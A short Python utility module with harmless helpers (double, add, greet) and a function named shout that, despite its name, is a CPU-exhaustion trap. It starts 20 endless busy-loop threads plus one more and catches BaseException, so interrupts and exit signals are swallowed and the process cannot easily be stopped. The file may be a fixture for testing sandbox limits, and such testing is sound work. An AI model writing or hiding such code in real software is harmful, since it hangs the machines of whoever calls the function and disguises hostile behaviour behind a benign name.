"""Computes for ever in many threads, and catches everything."""

import threading


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    def burn():
        while True:
            try:
                while True:
                    sum(range(1000))
            except BaseException:
                pass

    for _ in range(20):
        threading.Thread(target=burn).start()
    burn()
